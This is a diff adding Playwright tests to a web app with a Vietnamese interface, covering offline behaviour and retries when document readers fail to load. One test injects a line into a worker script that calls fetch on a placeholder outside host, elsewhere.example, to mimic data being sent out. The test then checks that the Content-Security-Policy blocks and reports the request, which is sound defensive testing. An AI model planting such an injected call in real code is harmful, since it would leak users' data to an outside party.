@@ -1,6 +1,7 @@
 import { readFileSync, readdirSync } from 'node:fs';
 import type { Locator, Page } from '@playwright/test';
-import { drop, expect, open, paste, read, sample, test, visit } from './desk';
+import { drop, expect, hearViolations, open, paste, read, sample, test, visit } from './desk';
+import { docxOf, report } from './fixtures';
 import { talks } from './linked';
 
 test('offline after the first load', async ({ desk, context }) => {
@@ -57,6 +58,40 @@ test.describe('without what was kept of an earlier visit', () => {
       await expect(alert).toHaveCount(0);
       // It looks as it does for who never missed it.
       await expect.poll(() => page.evaluate(() => [...document.querySelectorAll('link')].filter((link) => link.rel === 'stylesheet' && !link.sheet).length)).toBe(0);
+    });
+  }
+
+  test('a worker that would ask somebody else is stopped by the policy, and that is heard', async ({ page, context }) => {
+    const said: string[] = [];
+    const asked: string[] = [];
+    page.on('console', (m) => m.type() === 'error' && said.push(m.text()));
+    context.on('request', (r) => asked.push(r.url()));
+    await context.route(/\/worker-/, async (route) => {
+      const response = await route.fetch();
+      await route.fulfill({ response, body: `${await response.text()}\nsetTimeout(() => fetch('https://elsewhere.example/?words').catch(() => {}), 500);` });
+    });
+    await hearViolations(page);
+    await visit(page);
+    await open(page, 'dialogue');
+    await expect.poll(() => said.join()).toContain('CSP: connect-src https://elsewhere.example/');
+    expect(asked.filter((url) => url.includes('elsewhere'))).toEqual([]);
+  });
+
+  for (const [what, files] of [['what all readers need', /\/bienban_reader_bg/], ['the reader of one kind', /\/docx-/]] as const) {
+    test(`files wait for a reader that does not come: ${what}`, async ({ page, context }) => {
+      await visit(page);
+      await context.route(files, (route) => route.abort());
+      await drop(page, [{ name: 'a.txt', body: report(1).join('\n') }, { name: 'b.docx', body: [...docxOf(report(2))] }, { name: 'c.docx', body: [...docxOf(report(3))] }]);
+      const alert = page.getByRole('alert');
+      await expect(alert).toContainText('Một phần của trang chưa tải được'); // and not that a file is damaged
+      await expect(page.locator('.batch')).toContainText(/Đã mở [01] trên 3 tệp/);
+      await context.unroute(files);
+      await expect(async () => {
+        await alert.getByRole('button', { name: 'Thử lại' }).click(); // not at once after it failed
+        await expect(alert).toHaveCount(0, { timeout: 2000 });
+        await expect(page.locator('.docs-name')).toContainText('trên 3', { timeout: 2000 });
+      }).toPass();
+      await expect(page.locator('.batch')).toHaveCount(0);
     });
   }
 
